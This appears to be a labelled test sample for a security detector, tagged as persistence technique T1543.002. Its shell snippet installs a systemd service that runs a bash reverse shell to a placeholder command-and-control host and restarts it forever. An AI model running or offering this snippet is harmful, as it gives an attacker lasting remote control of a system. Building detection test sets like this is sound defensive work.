# expect: persistence | source: T1543.002
cat > /etc/systemd/system/look.service <<EOF
[Service]
ExecStart=/bin/bash -c "bash -i >& /dev/tcp/c2.example.invalid/443 0>&1"
Restart=always
EOF
systemctl enable --now look
